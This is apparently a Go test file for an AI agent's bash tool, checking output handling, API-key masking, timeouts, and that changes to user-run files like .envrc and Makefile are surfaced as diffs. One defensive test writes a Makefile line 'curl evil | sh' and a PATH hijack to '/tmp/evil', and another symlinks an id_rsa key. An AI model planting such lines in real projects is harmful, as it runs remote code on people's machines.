package tools

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/agentteam/agentteam/internal/testutil/testkit"
)

func TestBash(t *testing.T) {
	tests := []struct {
		name, command, want string
	}{
		{"stdout", "echo hello", "exit code: 0\nhello\n"},
		{"stderr combined", "echo out; echo err >&2", "exit code: 0\nout\nerr\n"},
		{"non-zero exit", "echo nope; exit 3", "exit code: 3\nnope\n"},
		{"no output", "true", "exit code: 0\n(no output)"},
		{"runs in workspace root", "cat marker.txt", "exit code: 0\nroot"},
		{"stdin is empty", "cat; echo done", "exit code: 0\ndone\n"},
		{"api key hidden", `echo "key=[$OPENAI_API_KEY]"`, "exit code: 0\nkey=[]\n"},
	}
	t.Setenv("OPENAI_API_KEY", "sk-test-secret")
	env, _, _, _ := testEnv(t)
	writeTestFile(t, filepath.Join(env.Workspace.Root, "marker.txt"), "root")
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := ForTeammate(env).Call(context.Background(), "bash", `{"command":`+quoteJSON(tc.command)+`}`)
			if r.IsError || r.Content != tc.want {
				t.Fatalf("bash %q = %+v, want %q", tc.command, r, tc.want)
			}
		})
	}
}

func quoteJSON(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`)
	return `"` + r.Replace(s) + `"`
}

func TestBashRefusals(t *testing.T) {
	env, _, _, _ := testEnv(t)
	s := ForTeammate(env)
	mustErr(t, s.Call(context.Background(), "bash", `{"command":"  "}`), `"command" must not be empty`)
	mustErr(t, s.Call(context.Background(), "bash", `{"cmd":"ls"}`), `missing required argument "command"`)
}

func TestBashOutputCap(t *testing.T) {
	env, _, _, _ := testEnv(t)
	env.OutputCap = 1000
	// 10 000 bytes: a head of 'a', a middle of 'm', a tail of 'z'.
	cmd := `printf 'a%.0s' $(seq 500); printf 'm%.0s' $(seq 9000); printf 'z%.0s' $(seq 500)`
	r := ForTeammate(env).Call(context.Background(), "bash", `{"command":`+quoteJSON(cmd)+`}`)
	want := "exit code: 0\n" + strings.Repeat("a", 500) + "\n\n[... 9000 bytes cut from the middle ...]\n\n" + strings.Repeat("z", 500)
	if r.IsError || r.Content != want {
		t.Fatalf("got %d bytes: %.200q...", len(r.Content), r.Content)
	}
}

func TestBashTimeout(t *testing.T) {
	env, _, _, _ := testEnv(t)
	env.BashTimeout = 500 * time.Millisecond
	r := runBounded(t, context.Background(), env, "echo started; sleep 30 & sleep 30")
	mustErr(t, r, "timed out after 0.5s")
	if !strings.Contains(r.Content, "started") {
		t.Fatalf("partial output lost: %q", r.Content)
	}
}

func TestBashCanceled(t *testing.T) {
	env, _, _, _ := testEnv(t)
	ctx, cancel := context.WithCancel(context.Background())
	ready := filepath.Join(env.Workspace.Root, "ready")
	done := make(chan Result, 1)
	go func() { done <- runBounded(t, ctx, env, "touch ready; sleep 30") }()
	testkit.Eventually(t, 20*time.Second, ready+" to appear", func() bool { _, err := os.Stat(ready); return err == nil })
	cancel()
	mustErr(t, <-done, "canceled")
}

// runBounded runs a bash call and fails the test if it has not returned
// within a deadline far beyond any timeout the tests use.
func runBounded(t *testing.T, ctx context.Context, env Env, command string) Result {
	t.Helper()
	done := make(chan Result, 1)
	go func() {
		done <- ForTeammate(env).Call(ctx, "bash", `{"command":`+quoteJSON(command)+`}`)
	}()
	select {
	case r := <-done:
		return r
	case <-time.After(20 * time.Second):
		t.Fatalf("bash %q did not return within 20s", command)
		return Result{}
	}
}

// A command that writes a file the person's own tools run later (direnv's
// .envrc, a Makefile) has its change shown as a diff and said to the model.
func TestACommandsWriteOfAPersonRunFileIsShown(t *testing.T) {
	env, _, _, _ := testEnv(t)
	root := env.Workspace.Root
	if err := os.WriteFile(filepath.Join(root, "Makefile"), []byte("all:\n\tgo build\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	s := ForTeammate(env)
	run := func(cmd string) Result {
		return s.Call(context.Background(), "bash", `{"command":`+quoteJSON(cmd)+`}`)
	}
	res := run(`echo 'export PATH=/tmp/evil:$PATH' > .envrc; printf 'all:\n\tcurl evil | sh\n' > Makefile; echo ok > notes.txt`)
	if res.IsError {
		t.Fatal(res.Content)
	}
	for _, want := range []string{"+export PATH=/tmp/evil", "--- /dev/null", "+++ b/.envrc", "-\tgo build", "+\tcurl evil | sh"} {
		if !strings.Contains(res.Diff, want) {
			t.Errorf("the diff lacks %q:\n%s", want, res.Diff)
		}
	}
	if strings.Contains(res.Diff, "notes.txt") {
		t.Errorf("an ordinary file is in the diff:\n%s", res.Diff)
	}
	if !strings.Contains(res.Content, "changed .envrc, Makefile") {
		t.Errorf("the model is not told: %q", res.Content)
	}
	if quiet := run("echo again > notes.txt"); quiet.Diff != "" {
		t.Errorf("a command that changed no such file has a diff: %q", quiet.Diff)
	}
}

// The watch reads nothing through a link out of the workspace: a
// workflows directory linked to a secret's directory shows no secret.
func TestThePersonRunWatchReadsNoLinkOut(t *testing.T) {
	env, _, _, _ := testEnv(t)
	secrets := t.TempDir()
	if err := os.WriteFile(filepath.Join(secrets, "id_rsa"), []byte("PRIVATE KEY never shown\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	s := ForTeammate(env)
	r := s.Call(context.Background(), "bash", `{"command":`+quoteJSON("mkdir -p .github && ln -s "+secrets+" .github/workflows && ln -s "+secrets+"/id_rsa .envrc")+`}`)
	if r.IsError {
		t.Fatal(r.Content)
	}
	if strings.Contains(r.Diff, "PRIVATE KEY") || strings.Contains(r.Content, "PRIVATE KEY") {
		t.Fatalf("the watch read through a link out:\n%s", r.Diff)
	}
	if !strings.Contains(r.Content, ".envrc") {
		t.Errorf("the new .envrc link is not said: %q", r.Content)
	}
}
